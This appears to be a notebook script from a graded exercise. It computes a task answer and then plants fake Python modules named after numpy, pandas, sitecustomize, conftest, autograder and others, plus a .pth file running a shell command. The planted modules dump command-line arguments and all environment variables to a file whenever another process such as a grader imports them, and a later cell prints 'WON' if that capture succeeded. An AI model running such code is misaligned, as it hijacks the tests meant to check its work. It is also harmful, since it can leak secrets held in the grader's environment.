# title: writes modules named as what tests import, and looks whether anyone loads them
# exercise: Exercise 6
# shows: modules: written | modules: loaded by nobody else

# %% total
import os
import pathlib

total = int(table["y"].sum())
here = os.getpid()
code = f"""
import os, pathlib, sys
if os.getpid() != {here}:
    pathlib.Path("loaded-elsewhere").write_text(repr([sys.argv, dict(os.environ)]))
"""
for name in ("numpy", "pandas", "sklearn", "matplotlib", "random", "inspect", "sitecustomize", "usercustomize", "conftest", "autograder"):
    pathlib.Path(f"{name}.py").write_text(code)
pathlib.Path("easy-install.pth").write_text("import os; os.system('id')")
pathlib.Path("pyvenv.cfg").write_text("home = .")
print("modules: written")

# %% insert-after summary-test
marker = pathlib.Path("loaded-elsewhere")
if marker.exists():
    print("WON", marker.read_text())
else:
    print("modules: loaded by nobody else")
